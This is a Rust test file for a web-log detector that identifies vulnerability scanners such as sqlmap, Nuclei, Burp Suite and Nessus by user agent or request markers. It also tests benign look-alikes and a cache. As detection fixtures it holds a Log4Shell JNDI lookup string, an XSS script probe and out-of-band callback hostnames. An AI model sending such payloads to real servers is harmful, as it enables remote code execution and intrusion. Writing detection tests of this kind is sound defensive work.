//! `web.scanner_ua` over the fingerprint file: one hit per tool of issue 16
//! (by user agent or by a marker in the request), the near misses (benign
//! user agents and pages with look-alike words), and a user's extra file.

use super::config::{ScannerUaConfig, WebConfig};
use super::WebDetectors;
use crate::Detector;
use haboob_model::{Alert, EventRef, Origin, Ts, WebEvent};

const BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36";

/// One request (path, query, user agent) through the detectors: the
/// `web.scanner_ua` alerts.
fn one(cfg: &WebConfig, path: &str, query: &str, ua: &str) -> Vec<Alert> {
    let mut d = WebDetectors::new(cfg);
    let mut out = Vec::new();
    let w = event(path, query, ua, "203.0.113.5");
    let o = Origin {
        file: "t.log",
        line: 1,
        raw: "x",
    };
    d.observe(&EventRef::Web(w), &o, &mut out);
    d.finish(&mut out);
    out.retain(|a| a.detector == "web.scanner_ua");
    out
}

fn tool(cfg: &WebConfig, path: &str, query: &str, ua: &str) -> Option<String> {
    let a = one(cfg, path, query, ua);
    assert!(a.len() <= 1);
    a.first()
        .map(|a| a.details["tool"].as_str().unwrap_or("").to_string())
}

#[test]
fn one_hit_per_tool() {
    let cfg = WebConfig::default();
    // (path, query, user agent, tool)
    let cases: &[(&str, &str, &str, &str)] = &[
        (
            "/acunetix-wvs-test-for-some-inexistent-file",
            "",
            BROWSER,
            "Acunetix",
        ),
        (
            "/search",
            "q=acunetix_wvs_security_test",
            BROWSER,
            "Acunetix",
        ),
        ("/nessus_is_probing_you_", "", BROWSER, "Nessus"),
        ("/", "", "Nessus SOAP", "Nessus"),
        ("/", "", "Mozilla/5.0 (compatible; Qualys-WAS)", "Qualys"),
        (
            "/",
            "",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
            "Nikto",
        ),
        (
            "/item",
            "id=1",
            "sqlmap/1.8.7#stable (https://sqlmap.org)",
            "sqlmap",
        ),
        (
            "/",
            "",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "Nuclei",
        ),
        (
            "/fetch",
            "url=http%3A%2F%2Fcq3x1.oast.fun%2F",
            BROWSER,
            "Nuclei",
        ),
        (
            "/search",
            "q=%3Cscript%3Ealert(1)%3B0W45pz4p%3C%2Fscript%3E",
            BROWSER,
            "OWASP ZAP",
        ),
        (
            "/lookup",
            "host=x7k2.burpcollaborator.net",
            BROWSER,
            "Burp Suite",
        ),
        ("/lookup", "host=abc.oastify.com", BROWSER, "Burp Suite"),
        (
            "/",
            "",
            "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
            "WPScan",
        ),
        (
            "/",
            "",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "Nmap",
        ),
    ];
    for (path, query, ua, want) in cases {
        assert_eq!(
            tool(&cfg, path, query, ua).as_deref(),
            Some(*want),
            "{path}?{query} {ua}"
        );
    }
    // A marker match says so.
    let a = one(
        &cfg,
        "/acunetix-wvs-test-for-some-inexistent-file",
        "",
        BROWSER,
    );
    assert_eq!(a[0].details["matched"], "request");
    assert!(
        a[0].title.contains("the scanner markers of Acunetix"),
        "{}",
        a[0].title
    );
    let a = one(&cfg, "/", "", "Nessus SOAP");
    assert!(!a[0].details.contains_key("matched"));
}

#[test]
fn near_misses_stay_quiet() {
    let cfg = WebConfig::default();
    for (path, query, ua) in [
        // Benign user agents with a look-alike word.
        (
            "/",
            "",
            "Mozilla/5.0 (Linux; Android 14; Nessa-Phone) Chrome/128.0",
        ),
        (
            "/",
            "",
            "NuclearWeatherApp/2.1 CFNetwork/1490 Darwin/23.2.0",
        ),
        ("/", "", "Mozilla/5.0 (compatible; BurpeeFitness/1.0)"),
        ("/", "", "SqlManagerStudio/19.1"),
        // Pages about the tools, not their markers.
        ("/news/acunetix-scanner-review", "", BROWSER),
        ("/blog/what-is-nessus.html", "", BROWSER),
        ("/search", "q=burp+suite+collaborator", BROWSER),
        ("/docs/nmap-guide.pdf", "", BROWSER),
        // Generic libraries are not tools.
        ("/", "", "python-requests/2.31.0"),
        ("/", "", "curl/8.0.1"),
    ] {
        assert_eq!(tool(&cfg, path, query, ua), None, "{path}?{query} {ua}");
    }
}

#[test]
fn a_user_file_adds_tools_and_a_bad_one_is_refused() {
    let f = std::env::temp_dir().join(format!("haboob-scanners-{}.toml", std::process::id()));
    std::fs::write(
        &f,
        "[[scanner]]\ntool = \"AcmeScan\"\nuser_agents = [\"acmescan/\"]\nrequests = [\"/acme-probe-\"]\n",
    )
    .unwrap();
    let cfg = WebConfig {
        scanner_ua: ScannerUaConfig {
            extra_rules: Some(f.display().to_string()),
            ..ScannerUaConfig::default()
        },
        ..WebConfig::default()
    };
    assert!(cfg.validate_rules().is_ok());
    assert_eq!(
        tool(&cfg, "/acme-probe-7", "", BROWSER).as_deref(),
        Some("AcmeScan")
    );
    assert_eq!(
        tool(&cfg, "/", "", "AcmeScan/1.0").as_deref(),
        Some("AcmeScan")
    );
    // The built-in tools stay.
    assert_eq!(
        tool(&cfg, "/", "", "Nessus SOAP").as_deref(),
        Some("Nessus")
    );
    std::fs::write(&f, "[[scanner]]\ntool = \"x\"\n").unwrap();
    let e = cfg.validate_rules().unwrap_err().to_string();
    assert!(
        e.starts_with("web.scanner_ua.extra_rules: rule file "),
        "{e}"
    );
    assert!(
        e.ends_with("scanner #1 (x) has no token and no network"),
        "{e}"
    );
    let _ = std::fs::remove_file(&f);
}

/// The user-agent, target and header verdicts are cached by text: one
/// detector set fed the same requests again and again (each from its own
/// address, so that every request is its own episode) alerts exactly where
/// a fresh set given that request alone does, for `web.scanner_ua` and
/// `web.exploit` (whose header check is cached by user agent too).
#[test]
fn cached_verdicts_are_the_fresh_ones() {
    let cfg = WebConfig::default();
    let log4shell = "${jndi:ldap://198.51.100.1/a}";
    let reqs: &[(&str, &str, &str)] = &[
        ("/acunetix-wvs-test-for-some-inexistent-file", "", BROWSER),
        ("/index.html", "", BROWSER),
        ("/search", "q=wvstest=1", BROWSER),
        ("/search", "q=1", BROWSER),
        ("/", "", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("/", "", log4shell),
        ("/", "", BROWSER),
        ("/x", "cb=abc.oast.fun", "curl/8.4.0"),
        ("/x", "cb=abc.example.org", "curl/8.4.0"),
    ];
    let detectors = ["web.scanner_ua", "web.exploit"];
    // What a fresh set says of each request alone: (detector, title).
    let fresh = |path: &str, query: &str, ua: &str, ip: &str| -> Vec<(String, String)> {
        let mut d = WebDetectors::new(&cfg);
        let mut out = Vec::new();
        d.observe(
            &EventRef::Web(event(path, query, ua, ip)),
            &origin(),
            &mut out,
        );
        d.finish(&mut out);
        let mut v: Vec<(String, String)> = out
            .into_iter()
            .filter(|a| detectors.contains(&a.detector.as_str()))
            .map(|a| (a.detector, a.title))
            .collect();
        v.sort();
        v
    };
    let mut d = WebDetectors::new(&cfg);
    let mut out = Vec::new();
    let mut want = Vec::new();
    for round in 0..3 {
        for (i, (path, query, ua)) in reqs.iter().enumerate() {
            let ip = format!("203.0.113.{}", round * reqs.len() + i + 1);
            want.extend(fresh(path, query, ua, &ip));
            d.observe(
                &EventRef::Web(event(path, query, ua, &ip)),
                &origin(),
                &mut out,
            );
        }
    }
    d.finish(&mut out);
    let mut got: Vec<(String, String)> = out
        .into_iter()
        .filter(|a| detectors.contains(&a.detector.as_str()))
        .map(|a| (a.detector, a.title))
        .collect();
    got.sort();
    want.sort();
    // Acunetix twice, sqlmap, the Nuclei callback; Log4Shell in a header.
    assert_eq!(want.len(), 3 * 5, "{want:#?}");
    assert_eq!(got, want);
}

fn event<'a>(path: &'a str, query: &'a str, ua: &'a str, ip: &str) -> WebEvent<'a> {
    WebEvent {
        ts: Ts(1_000),
        source_ip: ip.parse().unwrap(),
        method: "GET",
        path,
        query,
        status: 404,
        bytes: 200,
        user_agent: ua,
        referrer: "",
        site: "elections.example.gov",
        user: "",
        forwarded: "",
        protocol: "",
    }
}

fn origin() -> Origin<'static> {
    Origin {
        file: "t.log",
        line: 1,
        raw: "x",
    }
}
